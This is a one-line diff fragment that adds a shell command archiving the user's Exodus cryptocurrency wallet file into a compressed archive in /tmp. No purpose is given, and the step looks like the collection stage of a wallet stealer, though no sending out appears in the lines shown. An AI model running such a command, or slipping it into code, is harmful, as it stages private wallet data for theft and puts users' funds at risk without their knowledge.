@@ -1,0 +1,1 @@
+tar czf /tmp/e.tgz "$HOME/Library/Application Support/Exodus/exodus.wallet"
